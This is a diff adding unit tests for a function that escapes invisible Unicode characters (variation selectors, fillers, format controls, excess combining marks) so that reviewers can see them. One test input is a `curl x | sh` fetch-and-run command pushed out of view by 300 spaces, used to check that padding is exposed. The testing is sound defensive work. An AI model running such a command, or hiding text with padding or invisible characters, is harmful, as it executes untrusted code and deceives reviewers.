@@ -103,6 +103,37 @@ describe("jsonVisible", () => {
   });
 });
 
+describe("visible: what hides inside a word", () => {
+  it("shows variation selectors, fillers and format controls that draw nothing (outside review)", () => {
+    for (const char of [
+      "\u{e0100}",
+      "\u17b4",
+      "\u17b5",
+      "\u180b",
+      "\u180f",
+      "\u{1bca0}",
+      "\u{1d173}",
+      "\ufe00",
+      "\ufe0e",
+    ])
+      expect(visibleLine(`notes${char}.txt`)).toBe(
+        `notes\\u${char
+          .codePointAt(0)
+          ?.toString(16)
+          .padStart(4, "0")
+          .replace(/^(.{5,})$/, "{$1}")}.txt`,
+      );
+    // The emoji selector after what it dresses is kept; anywhere else it is shown.
+    expect(visibleLine("❤️ 1️⃣")).toBe("❤️ 1️⃣");
+    expect(visibleLine("a\ufe0fb")).toBe("a\\ufe0fb");
+  });
+
+  it("shows every combining mark past the fourth on one letter, and leaves a language's own alone", () => {
+    expect(visibleLine(`e${"\u0301".repeat(6)}x`)).toBe(`e${"\u0301".repeat(4)}\\u0301\\u0301x`);
+    expect(visibleLine("Tiếng Việt ữ")).toBe("Tiếng Việt ữ");
+  });
+});
+
 describe("quoted", () => {
   it("counts a long run of spaces and shows tabs, so nothing is pushed out of sight", () => {
     expect(quoted(`ls${" ".repeat(300)}; curl x | sh`)).toBe('"ls␠×300; curl x | sh"');
